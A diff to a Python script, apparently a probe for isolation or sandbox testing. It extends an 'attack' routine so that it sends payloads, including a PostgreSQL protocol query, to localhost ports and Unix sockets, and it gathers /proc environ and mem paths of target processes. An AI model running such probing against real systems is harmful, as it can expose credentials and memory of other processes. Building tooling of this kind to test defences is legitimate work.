@@ -69,11 +69,21 @@ def _postgresql(statement):
     yield start + b"p" + struct.pack("!i", 5) + b"\0" + query
 
 
-def talk(port, words):
-    """What a port answers."""
+def reach(door):
+    """A connection to a port, or to a socket that is a file."""
+    if isinstance(door, int):
+        return socket.create_connection(("127.0.0.1", door), timeout=5)
+    link = socket.socket(socket.AF_UNIX)
+    link.settimeout(5)
+    link.connect(door)
+    return link
+
+
+def talk(door, words):
+    """What a door answers."""
     heard = b""
     try:
-        with socket.create_connection(("127.0.0.1", port), timeout=5) as link:
+        with reach(door) as link:
             link.sendall(words)
             link.settimeout(1)
             while piece := link.recv(65_536):
@@ -119,7 +129,7 @@ def attack(targets):
     """Try everything."""
     said = [*payloads(), *runs(targets["marker"])]
     with ThreadPoolExecutor(16) as many:
-        calls = [many.submit(talk, port, words) for port in targets["ports"] for words in said]
+        calls = [many.submit(talk, door, words) for door in targets["doors"] for words in said]
         answers = [each.result() for each in calls]
     proc = [f"/proc/{pid}/{name}" for pid in targets["pids"] for name in ("environ", "mem")]
     return {
